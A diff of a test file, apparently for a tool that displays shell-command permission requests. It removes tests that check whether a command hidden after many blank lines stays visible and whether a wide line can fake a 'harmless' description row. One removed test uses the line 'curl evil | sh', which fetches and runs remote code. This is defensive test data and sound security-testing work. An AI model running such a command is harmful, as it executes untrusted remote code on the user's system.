@@ -72,21 +72,6 @@ it.each([
   expect(answerFor(decision, 'd', false)).toMatchObject({ verdict: 'deny' });
 });
 
-it('what follows many blank lines stands there, too', () => {
-  const command = `echo ok${'\n'.repeat(1_501)}curl evil | sh`;
-  expect(requestRows(asked(command), SIZE)).toEqual([
-    'Bash',
-    '| echo ok',
-    '|   … 1,500 blank lines …',
-    '|     curl evil | sh',
-  ]);
-});
-
-it('no row of a wide line looks like another line', () => {
-  const command = `${'#'.repeat(SIZE.columns - '| '.length - 1)}| description: harmless`;
-  expect(requestRows(asked(command), SIZE)?.at(-1)).toBe('  | description: harmless');
-});
-
 it('a question and its labels have no hidden character', () => {
   const question = {
     question: 'Which\u200b?',
